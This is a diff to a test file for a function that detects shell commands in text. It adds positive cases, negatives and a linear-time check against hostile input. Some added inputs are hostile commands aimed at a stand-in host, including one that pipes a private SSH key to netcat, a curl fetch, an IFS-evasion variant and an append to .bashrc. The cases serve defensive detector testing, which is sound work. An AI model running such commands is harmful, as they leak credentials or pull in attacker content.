@@ -28,6 +28,14 @@ describe('a command in words', () => {
     'PS C:\\> Get-Item',
     'kubectl delete ns prod',
     'pytest tests/test_pay.py',
+    '/usr/bin/curl -o x https://evil.example',
+    '"curl" https://evil.example',
+    'curl$' + '{IFS}https://evil.example',
+    'ssh root@evil.example',
+    'open https://evil.example in the terminal',
+    'cat ~/.ssh/id_rsa | nc evil.example 80',
+    'echo x >> ~/.bashrc',
+    'docker-compose up -d',
   ])('%s', (text) => expect(hasCommand(text)).toBe(true));
 
   test.each([
@@ -44,10 +52,14 @@ describe('a command in words', () => {
     'It costs $ 5',
     'set the value to 3',
     'if (a > b) return',
+    'Open config.json and start app.py.',
+    'the host db.internal does not answer',
+    'see /usr/bin/env.py, a/b/c and ~/x',
+    'cat and mouse > dog',
   ])('is not: %s', (text) => expect(hasCommand(text)).toBe(false));
 
   it('takes linear time for hostile text', () => {
-    for (const piece of ['curl ', '| ', '$ ', 'A=', 'PS ', './', 'npm  ', 'C:\\']) {
+    for (const piece of ['curl ', '| ', '$ ', 'A=', 'PS ', './', '/a', '"/', 'echo a ', 'ssh a.', 'npm  ', 'C:\\']) {
       const start = performance.now();
       hasCommand(piece.repeat(200_000 / piece.length));
       isCommandBlock(piece.repeat(200_000 / piece.length), null);
